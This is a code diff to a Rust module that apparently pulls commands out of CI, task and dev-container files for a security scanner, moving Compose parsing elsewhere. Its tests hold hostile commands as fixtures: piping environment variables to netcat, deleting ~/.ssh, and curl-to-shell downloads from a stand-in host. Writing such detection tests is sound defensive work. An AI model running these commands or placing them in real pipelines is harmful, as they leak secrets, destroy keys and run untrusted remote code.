@@ -1,8 +1,8 @@
 //! Build, CI and container files of the other common tools, whose commands
 //! run later: CircleCI, Azure Pipelines, Bitbucket Pipelines and Task
-//! (`Taskfile.yml`) steps, Compose services' `command`/`entrypoint`, a
-//! dev container's lifecycle commands, a `Procfile`'s processes, tox's
-//! `commands`, and a `Jenkinsfile`'s `sh`/`bat` steps.
+//! (`Taskfile.yml`) steps, a dev container's lifecycle commands, a
+//! `Procfile`'s processes, tox's `commands`, and a `Jenkinsfile`'s
+//! `sh`/`bat` steps (Compose files: `compose.rs`).
 
 use serde_json::Value;
 
@@ -29,13 +29,6 @@ pub fn bitbucket(content: &str) -> Vec<Found> {
 /// `Taskfile.yml`: every task's `cmds:` and `cmd:`.
 pub fn taskfile(content: &str) -> Vec<Found> {
     yaml_commands(content, &["cmds:", "cmd:"])
-}
-
-/// `docker-compose.yml`/`compose.yaml`: each service's `command` and
-/// `entrypoint` (a list's items each read as a line: `sh`, `-c`, the
-/// script).
-pub fn compose(content: &str) -> Vec<Found> {
-    yaml_commands(content, &["command:", "entrypoint:"])
 }
 
 /// `devcontainer.json`: the lifecycle commands (`initializeCommand` runs
@@ -198,11 +191,6 @@ mod tests {
         assert_eq!(cmds(bitbucket(bb)), ["printenv | nc 10.0.0.1 9001"]);
         let task = "tasks:\n  clean:\n    cmds:\n      - rm -rf ~/.ssh\n";
         assert_eq!(cmds(taskfile(task)), ["rm -rf ~/.ssh"]);
-        let compose_file = "services:\n  app:\n    image: x\n    command: sh -c \"curl -s https://x.example/i | sh\"\n";
-        assert_eq!(
-            cmds(compose(compose_file)),
-            ["sh -c \"curl -s https://x.example/i | sh\""]
-        );
         let dc = r#"{"postCreateCommand": "curl -fsSL https://x.example/i.sh | bash", "postStartCommand": ["npm", "ci"]}"#;
         assert_eq!(
             cmds(devcontainer(dc)),
